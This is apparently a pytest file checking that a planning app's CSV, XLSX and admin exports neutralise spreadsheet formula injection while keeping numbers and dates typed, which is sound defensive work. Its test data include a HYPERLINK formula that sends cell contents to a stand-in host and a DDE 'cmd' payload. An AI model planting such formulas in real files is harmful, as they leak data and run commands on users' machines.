"""No download carries a text that a spreadsheet would run as a formula (OWASP CSV injection).

The rule lives in nucleo.hojas and is used by the open-data writers, every XLSX
report and the admin's import-export downloads. Numbers and dates stay typed.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from nucleo import datos_abiertos, documentos
from nucleo.documentos import Columna, Hoja, Tipo
from nucleo.hojas import sin_prefijo, texto_seguro
from plan.models import Actividad
from plan.tests.test_importacion import (
    confirmar,
    exportar,
    filas_csv,
    filas_xlsx,
    totales,
    vista_previa,
)

FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Ver detalle")'


@pytest.mark.parametrize("inicio", ["=", "+", "-", "@", "\t", "\r"])
def test_un_texto_que_empieza_como_formula_se_neutraliza_con_comilla(inicio):
    assert texto_seguro(f"{inicio}1+1") == f"'{inicio}1+1"
    assert sin_prefijo(texto_seguro(f"{inicio}1+1")) == f"{inicio}1+1"


def test_numeros_fechas_y_textos_normales_no_cambian():
    for valor in ("-5", "+3,5", "-2.75", "Audiencia pública", "", "'ya citado", -5, None):
        assert texto_seguro(valor) == valor
    assert texto_seguro(Decimal("-5")) == Decimal("-5")
    assert texto_seguro(date(2022, 1, 1)) == date(2022, 1, 1)
    assert texto_seguro("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"


@pytest.fixture
def actividad_con_formula(plan_2022):
    actividad = Actividad.objects.get(plan=plan_2022, codigo="2.2")
    actividad.producto = FORMULA
    actividad.meta_unidad = "@SUM(1+1)"
    actividad.save()
    return actividad


def test_una_formula_escrita_por_una_oficina_no_llega_viva_al_csv_de_datos_abiertos(
    client, actividad_con_formula
):
    contenido = client.get("/datos-abiertos/actividades.csv").content.decode("utf-8-sig")

    fila = next(f for f in csv.DictReader(io.StringIO(contenido)) if f["codigo"] == "2.2")
    assert fila["producto"] == "'" + FORMULA
    assert fila["meta_unidad"] == "'@SUM(1+1)"
    assert fila["vigencia"] == "2022" and fila["meta_cantidad"] == "29.00"


def test_una_formula_no_llega_viva_al_xlsx_de_datos_abiertos_y_los_numeros_siguen_siendo_numeros(
    client, actividad_con_formula
):
    contenido = client.get("/datos-abiertos/actividades.xlsx").content
    hoja = openpyxl.load_workbook(io.BytesIO(contenido)).active
    encabezado = [c.value for c in hoja[1]]
    fila = next(
        dict(zip(encabezado, f, strict=True)) for f in hoja.iter_rows(2) if f[3].value == "2.2"
    )

    assert fila["producto"].value == "'" + FORMULA
    assert fila["producto"].data_type == "s"
    assert fila["vigencia"].data_type == "n" and fila["fecha_inicio"].is_date


def test_el_json_de_datos_abiertos_no_es_una_hoja_y_no_cambia(client, actividad_con_formula):
    documento = client.get("/datos-abiertos/actividades.json").json()
    assert next(f for f in documento["datos"] if f["codigo"] == "2.2")["producto"] == FORMULA


def test_los_informes_xlsx_neutralizan_el_texto_pero_no_los_numeros_negativos_ni_fechas():
    hojas = [
        Hoja(
            "Prueba",
            [
                Columna("Texto"),
                Columna("Número", tipo=Tipo.NUMERO),
                Columna("Fecha", tipo=Tipo.FECHA),
            ],
            [["=1+1", Decimal("-5"), date(2022, 3, 1)], ["-5", -7, None]],
        )
    ]
    hoja = openpyxl.load_workbook(io.BytesIO(documentos.xlsx_desde_hojas(hojas))).active

    assert [c.value for c in hoja[2]][:2] == ["'=1+1", -5]
    assert hoja["C2"].is_date
    assert [c.value for c in hoja[3]][:2] == ["-5", -7]
    assert hoja["B3"].data_type == "n"


def test_el_csv_de_datos_abiertos_deja_los_negativos_como_numeros():
    conjunto = datos_abiertos.Conjunto(
        slug="x",
        titulo="x",
        descripcion="x",
        campos=(
            datos_abiertos.Campo("texto", Tipo.TEXTO, "x"),
            datos_abiertos.Campo("cantidad", Tipo.NUMERO, "x"),
        ),
        filas=lambda: [{"texto": "+57 300", "cantidad": Decimal("-2.5")}],
    )
    filas = list(csv.reader(io.StringIO(datos_abiertos.como_csv(conjunto).decode("utf-8-sig"))))
    assert filas[1] == ["'+57 300", "-2.5"]


@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_la_exportacion_del_admin_neutraliza_formulas_y_reimportar_no_cambia_nada(
    admin_client, actividad_con_formula, formato
):
    contenido = exportar(admin_client, Actividad, formato)
    filas = filas_csv(contenido) if formato == "csv" else filas_xlsx(contenido)
    fila = dict(zip(filas[0], next(f for f in filas if f[3] == "2.2"), strict=True))
    assert fila["Producto"] == "'" + FORMULA
    assert fila["Meta unidad"] == "'@SUM(1+1)"

    previa = vista_previa(admin_client, Actividad, contenido, formato)
    assert totales(previa)["skip"] == 23  # the quote is read back as it was written
    confirmar(admin_client, Actividad, previa)
    assert Actividad.objects.get(pk=actividad_con_formula.pk).producto == FORMULA
